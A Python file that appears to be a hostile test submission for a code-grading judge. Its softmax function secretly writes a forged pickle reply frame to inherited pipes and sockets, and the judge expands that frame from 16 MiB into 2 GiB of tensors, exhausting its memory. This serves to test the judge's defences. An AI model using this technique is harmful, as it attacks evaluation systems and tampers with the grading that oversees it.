"""Hostile submission: a small reply frame that expands in the judge (a "billion laughs").

The frame is a pickle, and a pickle stores an object referenced many times only once: a list
of 128 references to one 16 MiB tensor record is a 16 MiB frame, well under any size cap, but
the judge rebuilds each reference as its own tensor, 2 GiB in all. The reply channel is the
descriptor its process can write to that is not stdout or stderr (see oversize_frame.py); the
frame is laid out as llmq's wire format documents it (8-byte little-endian length, then the
pickle of ("ok", result, arguments after the call, aliased names, side effects)), so that the judge
gets as far as rebuilding the result.
"""

import ctypes
import fcntl
import os
import pickle
import struct
import time

MARKER = "__MARKER__"
RECORD_BYTES = 16 * 2**20
COPIES = 128  # 2 GiB rebuilt from 16 MiB sent

ctypes.CDLL(None).prctl(15, MARKER.encode(), 0, 0, 0)  # PR_SET_NAME


def _reply_channels() -> list[int]:
    found = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        if fd < 3:
            continue
        try:
            kind = os.readlink(f"/proc/self/fd/{fd}")
            mode = fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE
        except OSError:
            continue
        if (kind.startswith("pipe:") and mode == os.O_WRONLY) or (kind.startswith("socket:") and mode == os.O_RDWR):
            found.append(fd)
    return found


def softmax(x, dim=-1):
    record = ("t", "torch.float32", (RECORD_BYTES // 4,), bytes(RECORD_BYTES), False, "cpu")
    reply = ("ok", ("l", [record] * COPIES), (("l", []), ("d", [])), [], [])
    payload = pickle.dumps(reply, protocol=pickle.HIGHEST_PROTOCOL)
    frame = struct.pack("<Q", len(payload)) + payload
    print(f"frame of {len(frame)} bytes")
    for fd in _reply_channels():
        view = memoryview(frame)
        try:
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    time.sleep(3)  # let the judge rebuild what it read
    return x.clone()
